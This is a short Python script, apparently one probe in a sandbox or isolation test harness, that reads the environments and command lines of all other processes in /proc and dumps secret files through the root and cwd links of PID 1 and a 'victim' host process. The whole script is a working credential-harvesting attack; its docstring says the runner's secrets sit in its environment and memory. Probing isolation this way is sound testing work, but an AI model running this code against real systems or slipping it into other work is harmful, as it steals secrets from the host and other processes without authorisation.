"""Reads environments, command lines, open files, roots and memory of all processes in /proc.

Idea: well-known trick; secrets of the runner are in its environment and memory.
"""

import glob
import os

import kit


def look(pattern, action):
    for path in glob.glob(pattern):
        if path.split("/")[2] not in ("self", "thread-self", str(os.getpid())):
            action(path)
    if os.path.isdir(f"/proc/{kit.known['victim']}"):
        return "the process of the host is there"
    raise ProcessLookupError(3, "no such process")


kit.attempt("environments", lambda: look("/proc/[0-9]*/environ", kit.dump))
kit.attempt("command lines", lambda: look("/proc/[0-9]*/cmdline", kit.dump))
for link in ("root", "cwd"):
    for path in kit.known["secret_paths"]:
        for process in (1, kit.known["victim"]):
            kit.attempt(f"read through {link}", lambda: kit.dump(f"/proc/{process}/{link}{path}"))
kit.honest()
